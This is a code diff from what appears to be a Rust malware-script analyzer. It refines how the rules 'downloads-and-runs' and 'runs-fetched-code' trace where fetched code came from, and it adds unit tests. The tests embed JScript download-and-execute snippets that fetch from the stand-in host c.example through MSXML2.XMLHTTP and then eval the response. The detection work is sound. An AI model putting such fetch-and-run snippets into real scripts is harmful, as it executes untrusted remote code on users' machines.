@@ -69,7 +69,7 @@ fn downloads_and_runs(trace: &Trace, findings: &mut Findings) {
             .techniques(&["T1204.002"])
     };
     let source = trace.file_sources.get(&path.to_lowercase()).filter(|_| is_fetched);
-    findings.add(quoted(finding.quote(path), &from(trace, source.into_iter())));
+    findings.add(quoted(finding.quote(path), &from(trace, trace.at_hand(source).iter())));
 }
 
 /// What was done with the addresses that something came from; with all, where it is not known of which it did.
@@ -296,10 +296,10 @@ fn fetched_code(trace: &Trace, findings: &mut Findings) {
     }
     let title = "The script runs code that it fetches from the network";
     let finding = Finding::new("runs-fetched-code", Severity::High, 90, title).techniques(&["T1105", "T1059"]);
-    let sources: Vec<Option<&String>> = code.iter().map(|code| trace.code_sources.get(&code.text)).collect();
+    let sources = code.iter().map(|code| trace.at_hand(trace.code_sources.get(&code.text)));
     // One whose address is not known may have come from any.
-    let all_known = sources.iter().all(Option::is_some);
-    let sources = sources.into_iter().flatten().filter(|_| all_known);
+    let all_known = sources.clone().all(|sources| !sources.is_empty());
+    let sources = sources.flatten().filter(|_| all_known);
     findings.add(quoted(finding.quotes(by), &from(trace, sources)));
 }
 
@@ -388,6 +388,15 @@ pub mod tests {
         let more = "var o = new ActiveXObject('MSXML2.XMLHTTP'); o.open('GET', 'http://c.example/d', false); o.send();";
         assert_eq!(evidence(&format!("{more} {}", run("h.responseBody")), "downloads-and-runs"), [true, false]);
         assert_eq!(evidence(&format!("{fetch} {more} eval(h.responseText)"), "runs-fetched-code"), [true, false]);
+        // Who reads an answer and asks another address before the first is written has the first one's.
+        let read = format!("{fetch} var b = h.responseBody, t = h.responseText; {more}");
+        let kept = run("b").replacen(fetch, &read, 1);
+        assert_eq!(evidence(&kept, "downloads-and-runs"), [true, false]);
+        assert_eq!(evidence(&format!("{read} eval(t)"), "runs-fetched-code"), [true, false]);
+        // Where both were read, it may be either.
+        let both = "var c = o.responseText;";
+        assert_eq!(evidence(&kept.replacen(more, &format!("{more} {both}"), 1), "downloads-and-runs"), [true, true]);
+        assert_eq!(evidence(&format!("{read} {both} eval(t)"), "runs-fetched-code"), [true, true]);
         assert_eq!(title(&run("h.responseBody")).as_deref(), Some("The script downloads a file and runs it"));
         let other = "The script uses the network, writes a file and runs it";
         assert_eq!(title(&run("'its own'")).as_deref(), Some(other));
